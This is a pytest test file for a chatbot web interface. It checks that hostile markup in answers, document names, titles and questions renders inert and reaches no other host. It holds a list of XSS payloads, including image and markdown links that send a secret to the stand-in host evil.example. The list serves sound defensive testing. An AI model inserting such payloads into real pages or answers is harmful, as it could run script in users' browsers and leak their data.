"""Nothing in an answer, a title or a file name runs in the browser or contacts another host.

Check 18: a list of payloads in answers, document names, headings, passages, department titles and questions, with
images and reference links that carry a secret; seen by a headless browser.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from bot.domain.departments import DepartmentSpec
from bot.testing.notes import NotesRetriever
from plugins.web.testing.fixtures import answer

SECRET = "s3cr3t-of-the-thread"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src='https://evil.example/?{SECRET}'>",
    f"![a](https://evil.example/?{SECRET})",
    f"![a][leak]\n\n[leak]: https://evil.example/?{SECRET}",
    f"[click][leak]\n\n[leak]: https://evil.example/?{SECRET}",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<form action='https://evil.example'><input autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>",
    "<video src='https://evil.example/v' onerror=alert(1)></video>",
    "</textarea></script><script>alert(1)</script>",
    "{{7*7}} ${alert(1)} {% raw %}",
    '"><body onload=alert(1)>',
]
CURATED = "Which hotels are good?"
ALL = "\n\n".join(PAYLOADS)


class HostileNotes(NotesRetriever):
    """Passages whose every text is an attack."""

    def search(self, *asked: Any, **more: Any) -> Any:
        first = super().search("hotels", "travel", asked[2], **more)[0]
        return [
            replace(
                first,
                chunk_id=f"c{n}",
                document=f"travel/{payload}.md",
                heading=f"A \u203a {payload}",
                text=ALL,
                relevance=1.0,
            )
            for n, payload in enumerate(PAYLOADS[:4])
        ]


@pytest.fixture
def hostile(make_web: Any, serve_home: Any, visit: Any, web_engine: Any) -> Any:
    """A home whose model, documents, department title and curated answer are attacks."""
    web_engine.answer = f"Hotels [1] [2] [3] [4].\n\n{ALL}\n\nEnd [1]."
    title = "<img src=x onerror=alert(1)>"
    department = DepartmentSpec("travel", title, examples=tuple(PAYLOADS[:3]))
    home = serve_home(make_web(departments=[department], retriever=HostileNotes()))
    client = visit(home)
    given = answer(client, CURATED)
    assert client.post(f"/api/v1/answers/{given['id']}/correction", json={"text": ALL}).json() == {"live": True}
    return home


def ask(page: Any, question: str) -> None:
    page.fill("#question", question)
    page.keyboard.press("Enter")
    page.wait_for_selector(".answer:last-of-type[aria-busy=false]")


def test_payloads_are_shown_and_stay_inert(hostile: Any, browser_page: Any) -> None:
    opened = browser_page(hostile.url)
    page = opened.page
    ask(page, ALL[:3_000])
    page.click(".sourcecard >> nth=0")
    assert "<script>alert(1)</script>" in page.inner_text("#source-text")
    page.keyboard.press("Escape")
    ask(page, CURATED)
    assert "<script>alert(1)</script>" in page.locator(".answer > .text").last.inner_text()
    page.reload()
    page.wait_for_selector(".answer[aria-busy=false]")
    page.goto(f"{hostile.url}/console/")
    page.wait_for_timeout(300)
    assert opened.dialogs == []
    assert opened.hosts == {hostile.url.removeprefix("http://")}
    assert not any(SECRET in address for address in opened.requests)


def test_the_page_holds_no_element_that_could_act(hostile: Any, browser_page: Any) -> None:
    page = browser_page(hostile.url).page
    ask(page, CURATED)
    text = page.locator(".answer > .text")
    acting = "img, script, iframe, object, embed, form, input, style, link, meta, base, video, animate, details"
    assert text.locator(acting).count() == 0
    links = text.locator("a").all()
    assert links
    for link in links:
        assert link.get_attribute("href").startswith("https://evil.example")
        assert "noopener" in link.get_attribute("rel")
    assert "click (evil.example)" in text.inner_text()


def test_the_policy_stops_what_would_get_through(web: Any, browser_page: Any) -> None:
    """The third wall holds by itself: markup put into the page by force neither runs nor loads."""
    opened = browser_page(web.url)
    forced = "\n".join(payload for payload in PAYLOADS if "refresh" not in payload)  # no policy governs navigation
    with opened.page.expect_event("requestfailed", lambda request: "evil.example" in request.url):
        opened.page.evaluate("html => document.getElementById('log').innerHTML = html", forced)
    opened.page.wait_for_timeout(500)
    assert any("evil.example" in address for address in opened.blocked)
    assert opened.dialogs == []
    assert opened.hosts == {web.url.removeprefix("http://")}
